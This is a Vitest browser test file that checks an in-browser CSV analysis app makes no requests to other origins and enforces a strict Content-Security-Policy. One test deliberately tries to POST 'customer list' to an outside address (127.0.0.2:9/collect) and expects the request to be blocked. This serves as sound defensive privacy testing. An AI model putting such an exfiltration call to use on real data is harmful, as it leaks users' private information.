import { describe, expect, inject, it } from 'vitest';
import { sampleOrdersCsv } from '../../src/model/sample-data/sample-orders';
import { downloadCsv } from '../support/app-readers';
import { openApp, useBrowser, uploadText, waitForState } from '../support/browser';
import { waitForServiceWorker } from '../support/service-worker';

const browser = useBrowser();

describe('privacy', () => {
  it('makes no request to any other origin during a full analysis and export, nor does its service worker', async () => {
    const { page, requests, serviceWorkerRequests, violations, errors } = await openApp(browser());
    const origin = new URL(inject('appUrl')).origin;

    await page.click('[data-testid="load-sample"]');
    await waitForState(page, 'ready');
    await uploadText(page, 'orders.csv', sampleOrdersCsv({ seed: 7, customers: 200, lines: 5_000 }));
    await waitForState(page, 'ready');
    await page.fill('input[data-testid="value-percentile"]', '60');
    await waitForState(page, 'ready');
    await downloadCsv(page, '[data-testid="export-customers"]');
    await downloadCsv(page, '[data-testid="export-segment"][data-segment="champion"]');
    // By now the service worker has downloaded its offline copy; its requests are in `requests` too.
    await waitForServiceWorker(page);

    const offOrigin = requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(blob|data):/.test(url));
    expect(offOrigin).toEqual([]);
    // DuckDB's wasm and worker really came from this origin, under the sub-path.
    expect(requests.some((url) => url.startsWith(inject('appUrl')) && url.endsWith('.wasm'))).toBe(true);
    // The service worker fetched only the app's own files, under the sub-path (DuckDB's wasm among them).
    expect(serviceWorkerRequests.some((url) => url.endsWith('.wasm'))).toBe(true);
    expect(serviceWorkerRequests.filter((url) => !url.startsWith(inject('appUrl')))).toEqual([]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('enforces a Content-Security-Policy that blocks other origins', async () => {
    const { page, violations } = await openApp(browser());
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("connect-src 'self' blob: data:");
    expect(policy).not.toContain("'unsafe-eval'");
    const outcome = await page.evaluate(() =>
      fetch('http://127.0.0.2:9/collect', { method: 'POST', body: 'customer list' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    await expect.poll(() => violations.some((text) => text.startsWith('connect-src'))).toBe(true);
  });
});
